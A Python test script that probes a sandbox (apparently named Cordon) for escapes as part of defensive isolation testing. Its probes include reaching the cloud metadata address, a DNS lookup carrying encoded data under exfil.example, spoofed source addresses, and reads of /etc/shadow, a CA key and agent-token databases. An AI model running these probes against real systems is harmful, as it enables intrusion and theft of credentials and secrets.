# Escape attempts, run inside a Cordon sandbox by controller/tests/escape.rs.
# Usage: python3 escape_probe.py CONFIG_JSON
# Prints one JSON line per attempt: {"attempt", "escaped": bool, "observed": str}.
# An attempt "escaped" when it reached what it aimed at; anything else is a failure to escape.
import json
import socket
import ssl
import struct
import subprocess
import sys

cfg = json.loads(sys.argv[1])
HOST = cfg["host_addr"]          # the host end of this sandbox's veth
OTHER = cfg["other_sandbox"]     # another live sandbox's address
results = []


def report(attempt, escaped, observed):
    print(json.dumps({"attempt": attempt, "escaped": escaped, "observed": observed}), flush=True)


def err(e):
    # No file names: the table in docs/SECURITY.md stays the same from run to run.
    if isinstance(e, OSError) and e.strerror:
        return f"{type(e).__name__}: {e.strerror}"
    return f"{type(e).__name__}: {e}"


def http_get(addr, port, path, timeout=5):
    s = socket.create_connection((addr, port), timeout)
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n".encode())
    data = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    s.close()
    return data.decode("latin-1")


def first_line(text):
    return text.split("\r\n", 1)[0] if text else "connection closed, nothing received"


def tcp_attempt(attempt, addr, port, path, marker):
    try:
        answer = http_get(addr, port, path)
        escaped = marker in answer
        cordon = "cordon-error" in answer
        observed = first_line(answer) + (" (a Cordon refusal)" if cordon else "")
        report(attempt, escaped, observed)
    except Exception as e:  # noqa: BLE001 - every failure is an observation
        report(attempt, False, err(e))


def dns_query(name, qtype=1):
    header = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + q + struct.pack(">HH", qtype, 1)


def udp_ask(addr, port, payload, timeout=2):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    try:
        s.sendto(payload, (addr, port))
        data, _ = s.recvfrom(4096)
        return data
    finally:
        s.close()


# 1. A TCP service on the host, outside the redirect.
tcp_attempt("TCP to a service on the host", HOST,
            cfg["host_service_port"], "/", "host-service-reached")
# 2-3. The gateway's own admin and metrics ports.
tcp_attempt("the gateway's admin API port", HOST, cfg["admin_port"],
            "/sessions", '"sessions"')
tcp_attempt("the gateway's metrics port", HOST, cfg["metrics_port"],
            "/metrics", "cordon_proxy_requests_total")
# 4. Another sandbox's agent.
tcp_attempt("another sandbox's agent", OTHER,
            cfg["agent_port"], "/healthz", '"status":"ok"')
# 5. The cloud metadata address.
tcp_attempt("169.254.169.254 (cloud metadata)", "169.254.169.254", 80, "/latest/meta-data/",
            "ami-id")

# 6. UDP to an outside resolver: port 53 anywhere is answered by the stub, never forwarded;
#    the test's fake resolver (on the host, port %d) must receive nothing.
try:
    data = udp_ask("198.51.100.53", 53, dns_query("escape.example"))
    report("UDP DNS to an outside resolver (198.51.100.53:53)", False,
           "answered by the Cordon stub (%d bytes), not forwarded" % len(data))
except Exception as e:  # noqa: BLE001
    report("UDP DNS to an outside resolver (198.51.100.53:53)", False, err(e))
try:
    data = udp_ask(HOST, cfg["fake_resolver_port"], dns_query("direct.example"))
    report("UDP to the fake resolver's port on the host", True, "got %d bytes" % len(data))
except Exception as e:  # noqa: BLE001
    report("UDP to the fake resolver's port on the host", False, err(e))

# 7. A lookup whose name carries data, through the configured resolver.
name = "c2VjcmV0LWRhdGE.exfil.example"
try:
    addr = socket.gethostbyname(name)
    report("DNS lookup carrying data (%s)" % name, False,
           "answered from the synthetic range (%s) by the Cordon stub; nothing forwarded" % addr.rsplit(".", 2)[0] + ".x.x")
except Exception as e:  # noqa: BLE001
    report("DNS lookup carrying data (%s)" % name, False, err(e))

# 8. ICMP ping.
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(2)
    s.sendto(struct.pack(">BBHHH", 8, 0, 0xF7FF, 0, 0), ("192.0.2.1", 0))
    s.recvfrom(1024)
    report("ICMP echo (ping 192.0.2.1)", True, "got a reply")
except Exception as e:  # noqa: BLE001
    report("ICMP echo (ping 192.0.2.1)", False, err(e))

# 9. IPv6.
try:
    s = socket.create_connection(("2001:db8::1", 443), 3)
    report("IPv6 TCP to [2001:db8::1]:443", True, "connected")
except Exception as e:  # noqa: BLE001
    report("IPv6 TCP to [2001:db8::1]:443", False, err(e))

# 10. Raw sockets.
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    report("a raw socket", True, "opened")
except Exception as e:  # noqa: BLE001
    report("a raw socket", False, err(e))

# 11. A packet with another sandbox's source address.
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND: bind an address that is not ours
    except OSError:
        pass
    s.bind((OTHER, 0))
    s.connect((HOST, 443))
    report("TCP with another sandbox's source address", True, "connected")
except Exception as e:  # noqa: BLE001
    report("TCP with another sandbox's source address", False, err(e))

# 12. SNI and Host disagree.
out = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-m", "30",
                      "-H", "Host: other.test", "https://allowed.test/"],
                     capture_output=True, text=True)
report("HTTPS with SNI allowed.test and Host other.test", out.stdout == "200",
       "HTTP %s" % (out.stdout or "none: " + out.stderr.strip()))

# 13. A CONNECT to the gateway.
try:
    s = socket.create_connection((HOST, cfg["explicit_port"]), 5)
    s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
    answer = s.recv(4096).decode("latin-1")
    line = first_line(answer)
    report("CONNECT to the gateway's explicit proxy port",
           " 200" in line and "established" in answer.lower(), line)
except Exception as e:  # noqa: BLE001
    report("CONNECT to the gateway's explicit proxy port", False, err(e))

# 14. Writing the host's files through the root filesystem.
try:
    with open("/usr/cordon-escape-probe", "w") as f:
        f.write("x")
    report("writing /usr/cordon-escape-probe (seen from the host?)", False,
           "written inside the sandbox's in-memory overlay")
except Exception as e:  # noqa: BLE001
    report("writing /usr/cordon-escape-probe (seen from the host?)", False, err(e))

# 15. The gateway's secrets: not in the sandbox at all.
for label, path in [
    ("the interception CA key", cfg["ca_key"]),
    ("the controller's database (agent tokens)", cfg["controller_db"]),
    ("another sandbox's workspace", cfg["other_workspace"]),
]:
    try:
        with open(path, "rb") as f:
            data = f.read()
        report("reading %s" % label, len(data) > 0, "read %d bytes" % len(data))
    except Exception as e:  # noqa: BLE001
        report("reading %s" % label, False, err(e))
# The image has files at the host's well-known paths: they must be the image's, not the host's.
import hashlib
for label, path, host_hash in [
    ("the host's /etc/shadow", "/etc/shadow", cfg["host_hashes"].get("/etc/shadow")),
    ("the host's /root/.bashrc", "/root/.bashrc", cfg["host_hashes"].get("/root/.bashrc")),
]:
    try:
        with open(path, "rb") as f:
            data = f.read()
        same = hashlib.sha256(data).hexdigest() == host_hash
        report("reading %s" % label, same,
               "read the host's file" if same else "read %d bytes: the image's own file" % len(data))
    except Exception as e:  # noqa: BLE001
        report("reading %s" % label, False, err(e))
try:
    import os
    listed = os.listdir(cfg["other_workspace"])
    report("listing another sandbox's workspace", len(listed) > 0, "%d entries" % len(listed))
except Exception as e:  # noqa: BLE001
    report("listing another sandbox's workspace", False, err(e))

# 16. The one allowed request.
# Generous time, and one retry: on a loaded 2-core machine (the whole suite in parallel) a
# gVisor curl through the proxy can be slow; what this checks is that the request is allowed.
for _ in range(2):
    out = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-m", "30",
                          "https://allowed.test/"], capture_output=True, text=True)
    if out.stdout == "200":
        break
print(json.dumps({"attempt": "allowed: HTTPS GET https://allowed.test/", "allowed": True,
                  "ok": out.stdout == "200",
                  "observed": "HTTP %s%s" % (out.stdout, "" if out.stdout == "200" else " (" + out.stderr.strip() + ")")}),
      flush=True)
